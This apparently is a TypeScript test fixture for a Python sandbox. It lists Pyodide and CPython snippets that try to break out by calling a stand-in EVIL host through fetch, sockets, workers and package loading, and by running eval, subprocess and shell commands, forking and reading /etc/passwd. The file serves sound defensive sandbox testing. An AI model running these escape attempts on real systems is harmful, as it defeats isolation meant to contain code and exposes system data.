import type { Attempt, Outside } from './attempt.ts';

const attempts =
  (outside: Outside) =>
  ([name, code]: readonly [name: string, code: string]): Attempt => ({ name, code: code.trim(), outside });

const FROM_PYODIDE: readonly (readonly [name: string, code: string])[] = [
  ['js.fetch', `import js\njs.fetch(EVIL + 'fetch', mode='no-cors').then(reached, refused)`],
  ['js.fetch of the app', `import js\njs.fetch(APP).then(reached, refused)`],
  [
    'js.XMLHttpRequest',
    `import js
request = js.XMLHttpRequest.new()
request.open('GET', EVIL + 'xhr', False)
request.send()
reached(request.status)`,
  ],
  [
    'js.WebSocket',
    `import js
from pyodide.ffi import create_proxy
def listen(event): refused(event.effectiveDirective)
js.addEventListener('securitypolicyviolation', create_proxy(listen))
socket = js.WebSocket.new(EVIL.replace('http', 'ws'))
socket.onerror = create_proxy(lambda event: js.setTimeout(create_proxy(lambda: reached('left')), 500))`,
  ],
  ['js.eval', `import js\nreached(js.eval('6 * 7'))`],
  ['js.Function', `import js\nreached(js.Function.new('return 6 * 7')())`],
  [
    'a worker of its own',
    `import js
from pyodide.ffi import create_proxy
script = f'fetch("{EVIL}nested").then(() => postMessage("reached"), (e) => postMessage(String(e)))'
worker = js.Worker.new(js.URL.createObjectURL(js.Blob.new([script])))
worker.onmessage = create_proxy(lambda event: reached('fetched') if event.data == 'reached' else refused(event.data))`,
  ],
  ['js.indexedDB', `import js\njs.indexedDB.databases().then(reached, refused)`],
  ['js.caches', `import js\njs.caches.open('stolen').then(reached, refused)`],
  ['js.navigator.storage', `import js\njs.navigator.storage.getDirectory().then(reached, refused)`],
  ['js.navigator.locks', `import js\njs.navigator.locks.query().then(reached, refused)`],
  ['pyodide.code.run_js', `from pyodide.code import run_js\nreached(run_js('6 * 7'))`],
  [
    'pyodide.code.run_js and a fetch',
    `from pyodide.code import run_js\nrun_js(f'fetch("{EVIL}run-js")').then(reached, refused)`,
  ],
  ['pyodide.http.open_url', `from pyodide.http import open_url\nreached(open_url(EVIL + 'open'))`],
  [
    'pyodide.http.pyfetch',
    `import asyncio
from pyodide.http import pyfetch
async def get():
    try: reached((await pyfetch(EVIL + 'pyfetch')).status)
    except BaseException as error: refused(error)
asyncio.ensure_future(get())`,
  ],
  [
    'the constructor of a function of pyodide_js',
    `import pyodide_js\nreached(pyodide_js.loadPackage.constructor('return 6 * 7')())`,
  ],
  [
    'pyodide_js.loadPackage of a URL',
    `import pyodide_js
def check(_):
    refused('nothing loaded') if 'stolen' not in pyodide_js.loadedPackages.to_py() else reached('loaded')
pyodide_js.loadPackage(EVIL + 'stolen-1.0-py3-none-any.whl').then(check, refused)`,
  ],
  [
    'a database as a file system',
    `import pyodide_js
from pyodide.ffi import create_proxy
pyodide_js.FS.mkdir('/stolen')
pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, None, '/stolen')
pyodide_js.FS.syncfs(True, create_proxy(lambda error: refused(error) if error else reached('synchronised')))`,
  ],
];

const FROM_PYTHON: readonly (readonly [name: string, code: string])[] = [
  ['urllib', `import urllib.request\nreached(urllib.request.urlopen(EVIL + 'urllib', timeout=2).status)`],
  [
    'http.client',
    `import http.client
connection = http.client.HTTPConnection(EVIL[7:-1], timeout=2)
connection.request('GET', '/client')
reached(connection.getresponse().status)`,
  ],
  [
    'a socket',
    `import socket
host, port = EVIL[7:-1].split(':')
connection = socket.create_connection((host, int(port)), timeout=2)
connection.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')
if not connection.recv(10): raise OSError('no answer')
reached('answered')`,
  ],
  [
    'a datagram',
    `import socket
host, port = EVIL[7:-1].split(':')
connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
connection.settimeout(0.3)
connection.sendto(b'x', (host, int(port)))
reached(connection.recv(1))`,
  ],
  [
    'asyncio streams',
    `import asyncio
async def connect():
    host, port = EVIL[7:-1].split(':')
    await asyncio.open_connection(host, int(port))
asyncio.new_event_loop().run_until_complete(connect())
reached('connected')`,
  ],
  ['a process', `import subprocess\nreached(subprocess.run(['true']).returncode)`],
  ['a shell', `import os\nif os.system('true') != 0: raise OSError('no shell')\nreached('a shell')`],
  [
    'a thread',
    `import threading
threading.Thread(target=lambda: reached('it runs')).start()`,
  ],
  [
    'a fork',
    `import os
pid = os.fork()
if pid == 0: os._exit(0)
reached(pid)`,
  ],
  ['files of the machine', `reached(len(open('/etc/passwd').read()))`],
  [
    'environment of the machine',
    `import os
if not os.environ.get('PATH', '').startswith('/') or os.environ.get('HOME') == '/home/pyodide': raise KeyError('PATH')
reached('PATH')`,
  ],
  [
    'the C library of the machine',
    `import ctypes
if ctypes.CDLL(None).getppid() <= 1: raise OSError('no parent')
reached('a parent process')`,
  ],
  ['signals', `import os, signal\nos.kill(os.getppid(), 0)\nreached('a parent process')`],
];

/** Attempts of Python to reach out of the sandbox. */
export const PYTHON_ATTEMPTS: readonly Attempt[] = [
  ...FROM_PYODIDE.map(attempts('plain Pyodide')),
  ...FROM_PYTHON.map(attempts('CPython')),
];
